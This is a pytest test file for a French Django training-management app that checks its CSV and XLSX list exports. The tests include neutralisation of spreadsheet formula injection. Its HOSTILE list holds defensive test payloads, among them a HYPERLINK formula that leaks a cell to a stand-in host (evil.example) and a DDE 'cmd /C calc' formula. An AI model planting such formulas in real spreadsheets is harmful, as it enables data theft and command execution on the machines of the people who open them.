import csv
import datetime as dt
import functools
import io
from decimal import Decimal
from unittest import mock

import openpyxl
import pytest
from django.http import FileResponse, StreamingHttpResponse
from django.urls import reverse
from django.utils.functional import Promise

from formations import exporting
from formations.models import Formation, Funder, Structure, User
from tests.factories import (
    ContactConsentFactory,
    EnrolmentFactory,
    FormationFactory,
    FunderFactory,
    ParticipantFactory,
    ProgrammeFactory,
    SlotFactory,
    StructureFactory,
    TrainingSessionFactory,
    UserFactory,
)
from tests.factories.planning import attend

pytestmark = pytest.mark.django_db


def _csv(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert isinstance(response, StreamingHttpResponse), "CSV rows are streamed"
    content = response.getvalue().decode("utf-8")
    assert content.startswith("\ufeff"), "a BOM lets a French Excel read UTF-8"
    return list(csv.reader(io.StringIO(content[1:]), delimiter=";"))


def _xlsx(response):
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert isinstance(response, FileResponse), "XLSX is written to a file, then sent"
    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]


PARTICIPANT_HEADERS = [
    "Nom",
    "Prénom",
    "E-mail",
    "Téléphone",
    "Fonction",
    "Structure",
    "Type de structure",
    "Commune",
    "Date de prise de poste",
    "Accord e-mail",
    "Accord SMS",
]


@pytest.fixture
def participants():
    ccas = StructureFactory(name="CCAS de Mamoudzou", kind=Structure.Kind.CCAS, commune="Mamoudzou")
    centre = StructureFactory(name="Centre social Arbrisseau", commune="Lille")
    madi = ParticipantFactory(
        last_name="Madi",
        first_name="Zaïnaba",
        email="zainaba@example.org",
        phone="+262639000000",
        job_title="Conseillère",
        structure=ccas,
        post_taken_on=dt.date(2020, 9, 1),
    )
    ContactConsentFactory(participant=madi, channel="email", purpose="evaluation_follow_up")
    ContactConsentFactory(participant=madi, channel="email", purpose="news_campaigns")
    ParticipantFactory(
        last_name="Nguyễn", first_name="Thị", email="thi@example.org", structure=centre
    )


def test_participant_csv_has_french_headers_and_rows(coordinator_client, participants):
    response = coordinator_client.get(reverse("formations:participant_list") + "?_export=csv")
    assert response["Content-Disposition"] == 'attachment; filename="participants.csv"'
    header, *rows = _csv(response)
    assert header == PARTICIPANT_HEADERS
    assert rows == [
        [
            "Madi",
            "Zaïnaba",
            "zainaba@example.org",
            "+262639000000",
            "Conseillère",
            "CCAS de Mamoudzou",
            "CCAS / CIAS",
            "Mamoudzou",
            "2020-09-01",
            "suivi des évaluations, actualités et campagnes",
            "non",
        ],
        [
            "Nguyễn",
            "Thị",
            "thi@example.org",
            "",
            "",
            "Centre social Arbrisseau",
            "Centre social",
            "Lille",
            "",
            "non",
            "non",
        ],
    ]


def test_participant_xlsx_has_typed_cells(coordinator_client, participants):
    response = coordinator_client.get(reverse("formations:participant_list") + "?_export=xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="participants.xlsx"'
    sheet, rows = _xlsx(response)
    assert sheet.title == "Participant·es"
    assert rows[0] == PARTICIPANT_HEADERS
    assert rows[1][0] == "Madi"
    assert rows[1][8] == dt.datetime(2020, 9, 1)
    assert rows[2][0] == "Nguyễn"
    assert len(rows) == 3


def test_export_follows_filters_and_sort_not_pagination(coordinator_client):
    structure = StructureFactory(kind=Structure.Kind.CCAS)
    ParticipantFactory.create_batch(30, structure=structure)
    ParticipantFactory.create_batch(3)
    url = reverse("formations:participant_list")
    header, *rows = _csv(
        coordinator_client.get(
            url, {"kind": "ccas", "sort": "-last_name", "page": 2, "_export": "csv"}
        )
    )
    assert len(rows) == 30
    assert [row[0] for row in rows] == sorted((row[0] for row in rows), reverse=True)


def test_structure_export_counts_participants(coordinator_client):
    structure = StructureFactory(
        name="CCAS de Dembeni", territory="Mayotte", kind=Structure.Kind.CCAS
    )
    ParticipantFactory.create_batch(2, structure=structure)
    response = coordinator_client.get(reverse("formations:structure_list") + "?_export=csv")
    assert response["Content-Disposition"] == 'attachment; filename="structures.csv"'
    header, *rows = _csv(response)
    assert header == ["Nom", "Type", "Commune", "Territoire", "Participant·es"]
    assert rows == [["CCAS de Dembeni", "CCAS / CIAS", "Lille", "Mayotte", "2"]]


def test_programme_export_lists_funders_and_period(coordinator_client):
    programme = ProgrammeFactory(reference="CSC-MEL-2018", title="Centres sociaux connectés")
    programme.funders.add(FunderFactory(), FunderFactory(name="Région", kind=Funder.Kind.REGION))
    response = coordinator_client.get(reverse("formations:programme_list") + "?_export=csv")
    assert response["Content-Disposition"] == 'attachment; filename="programmes.csv"'
    header, *rows = _csv(response)
    assert header == ["Référence", "Intitulé", "Porteur", "Période", "Financeurs"]
    assert rows == [
        [
            "CSC-MEL-2018",
            "Centres sociaux connectés",
            "Centre social et culturel de l'Arbrisseau",
            "01/01/2021 – 31/12/2022",
            "FEDER, Région",
        ]
    ]


def test_formation_export_keeps_amounts_numeric_in_xlsx(coordinator_client):
    FormationFactory(
        contract_reference="FEDER-2018-AO.3",
        amount=Decimal("25000.50"),
        pricing_mode=Formation.PricingMode.GLOBAL,
    )
    url = reverse("formations:formation_list")
    header, *rows = _csv(coordinator_client.get(url + "?_export=csv"))
    assert header == [
        "Référence du marché",
        "Intitulé",
        "Programme",
        "Mode de tarification",
        "Montant du marché (€)",
    ]
    assert rows[0][0] == "FEDER-2018-AO.3"
    assert rows[0][3] == "Forfait global"
    assert rows[0][4] == "25000,50"
    response = coordinator_client.get(url + "?_export=xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="formations.xlsx"'
    _, xrows = _xlsx(response)
    assert xrows[1][4] == pytest.approx(25000.5)


def test_funder_export(coordinator_client):
    FunderFactory()
    response = coordinator_client.get(reverse("formations:funder_list") + "?_export=csv")
    assert response["Content-Disposition"] == 'attachment; filename="financeurs.csv"'
    header, *rows = _csv(response)
    assert header == ["Nom", "Type", "Mention obligatoire", "Programmes"]
    assert rows[0][:2] == ["FEDER", "FEDER"]


def test_action_column_is_never_exported(coordinator_client, participants):
    html = coordinator_client.get(reverse("formations:participant_list")).content.decode()
    assert "Actions" in html
    header, *_ = _csv(
        coordinator_client.get(reverse("formations:participant_list") + "?_export=csv")
    )
    assert "Actions" not in header


def test_unknown_export_format_renders_the_page(coordinator_client):
    response = coordinator_client.get(reverse("formations:participant_list") + "?_export=yaml")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")


def test_formula_cells_are_neutralised(coordinator_client):
    ParticipantFactory(
        last_name='=HYPERLINK("http://evil")', job_title="@SUM(A1)", phone="+33 6 12 34 56 78"
    )
    header, row = _csv(
        coordinator_client.get(reverse("formations:participant_list") + "?_export=csv")
    )
    assert row[0] == '\'=HYPERLINK("http://evil")'
    assert row[4] == "'@SUM(A1)"
    assert row[3] == "+33 6 12 34 56 78"
    sheet, xrows = _xlsx(
        coordinator_client.get(reverse("formations:participant_list") + "?_export=xlsx")
    )
    # A text cell shows the formula as typed, and Excel's quote prefix keeps it text.
    assert xrows[1][0] == '=HYPERLINK("http://evil")'
    assert sheet.cell(row=2, column=1).data_type == "s"
    assert sheet.cell(row=2, column=1).quotePrefix


def test_phone_numbers_are_not_prefixed(coordinator_client):
    ParticipantFactory(last_name="Madi", phone="+262639123456")
    ParticipantFactory(last_name="Nguyen", phone="+262 639 12 34 56")
    _, *rows = _csv(coordinator_client.get(reverse("formations:participant_list") + "?_export=csv"))
    assert [row[3] for row in rows] == ["+262639123456", "+262 639 12 34 56"]
    _, xrows = _xlsx(
        coordinator_client.get(reverse("formations:participant_list") + "?_export=xlsx")
    )
    assert [row[3] for row in xrows[1:]] == ["+262639123456", "+262 639 12 34 56"]


# A formula in every form a spreadsheet would run: « = », « + », « - », « @ », a tab or a
# carriage return first.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez")',
    "+1+1",
    "-1-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _hostile_programmes():
    for value in HOSTILE:
        ProgrammeFactory(title=value)


def _hostile_formations():
    for value in HOSTILE:
        FormationFactory(title=value)


def _hostile_structures():
    for value in HOSTILE:
        StructureFactory(name=value)


def _hostile_participants():
    for value in HOSTILE:
        ParticipantFactory(last_name=value, job_title=value)


def _hostile_funders():
    for value in HOSTILE:
        FunderFactory(name=value, kind=Funder.Kind.CAF)


def _hostile_accounts():
    for value in HOSTILE:
        UserFactory(role=User.Role.TRAINER, username=value)


def _hostile_sessions():
    for index, value in enumerate(HOSTILE):
        TrainingSessionFactory(code=f"S{index}", place=value)


EVERY_LIST = {
    "formations:programme_list": (_hostile_programmes, "Intitulé"),
    "formations:formation_list": (_hostile_formations, "Intitulé"),
    "formations:structure_list": (_hostile_structures, "Nom"),
    "formations:participant_list": (_hostile_participants, "Nom"),
    "formations:funder_list": (_hostile_funders, "Nom"),
    "formations:account_list": (_hostile_accounts, "Nom d’utilisateur"),
    "sessions:session_list": (_hostile_sessions, "Lieu"),
}


def _same_text(cell: str, value: str) -> bool:
    # XML reads a carriage return back as a line feed.
    return cell.replace("\n", "\r") == value


@pytest.mark.parametrize("url_name", list(EVERY_LIST))
def test_every_list_neutralises_formulas_in_csv(coordinator_client, url_name):
    make, header = EVERY_LIST[url_name]
    make()
    headers, *rows = _csv(coordinator_client.get(reverse(url_name) + "?_export=csv"))
    cells = [row[headers.index(header)] for row in rows]
    for value in HOSTILE:
        matching = [cell for cell in cells if _same_text(cell, "'" + value)]
        assert matching, f"{value!r} not neutralised in {cells}"
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("url_name", list(EVERY_LIST))
def test_every_list_writes_formulas_as_text_in_xlsx(coordinator_client, url_name):
    make, header = EVERY_LIST[url_name]
    make()
    sheet, rows = _xlsx(coordinator_client.get(reverse(url_name) + "?_export=xlsx"))
    column = rows[0].index(header) + 1
    cells = [sheet.cell(row=index, column=column) for index in range(2, len(rows) + 1)]
    for value in HOSTILE:
        matching = [cell for cell in cells if _same_text(cell.value, value)]
        assert matching, f"{value!r} missing from {[cell.value for cell in cells]}"
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in matching)
    assert not [cell for cell in cells if cell.data_type == "f"]


# --- The exporters' fast values are the tables' values ---------------------------------


def _varied_rows():
    """Records of every list, with full and empty values."""
    feder = FunderFactory()
    FunderFactory(name="Région", kind=Funder.Kind.REGION, publicity_sentence="")
    programme = ProgrammeFactory()
    programme.funders.add(feder)
    ProgrammeFactory(carrier="")
    mayotte = StructureFactory(kind=Structure.Kind.CCAS, territory="Mayotte")
    StructureFactory(kind=Structure.Kind.OTHER, kind_label="Foyer rural", commune="")
    consenting = ParticipantFactory(
        structure=mayotte,
        phone="+262639123456",
        job_title="Conseillère",
        post_taken_on=dt.date(2020, 9, 1),
    )
    ContactConsentFactory(participant=consenting, channel="sms", purpose="news_campaigns")
    ParticipantFactory(structure=mayotte, email="", phone="", job_title="")
    formation = FormationFactory(programme=programme, amount=Decimal("25000.50"))
    FormationFactory(pricing_mode=Formation.PricingMode.PER_DAY, unit_price=Decimal("900"))
    UserFactory(role=User.Role.FUNDER_AUDITOR).funders.add(feder)
    UserFactory(role=User.Role.STRUCTURE_REFERENT, structure=mayotte, is_active=False)
    UserFactory(role=User.Role.TRAINER, last_login=dt.datetime(2021, 10, 4, 7, 30, tzinfo=dt.UTC))
    session = TrainingSessionFactory(formation=formation, place="Mamoudzou")
    slot = SlotFactory(session=session)
    attend(EnrolmentFactory(session=session), slot)
    TrainingSessionFactory(formation=formation, place="")


def _normalised(value):
    # The table gives None for an empty cell where a record gives "": both write nothing.
    value = "" if value is None else value
    return str(value) if isinstance(value, Promise) else value


@pytest.mark.parametrize("url_name", list(EVERY_LIST))
def test_export_values_are_those_of_the_page_table(coordinator_client, url_name):
    _varied_rows()
    captured = []

    def capture(exporter, export_format):
        captured.append(exporter)
        return exporting.csv_response(exporter)

    with mock.patch.object(exporting, "export_response", capture):
        coordinator_client.get(reverse(url_name) + "?_export=csv").getvalue()
    (exporter,) = captured
    columns = exporter.get_columns()
    assert all(not isinstance(column.value, functools.partial) for column in columns), (
        "every column has its fast value"
    )
    records = list(exporter.iterate_records())
    assert len(records) >= 2
    for record in records:
        fast = [_normalised(column.value(record)) for column in columns]
        table = [_normalised(exporter.table_value(record, column.name)) for column in columns]
        assert fast == table
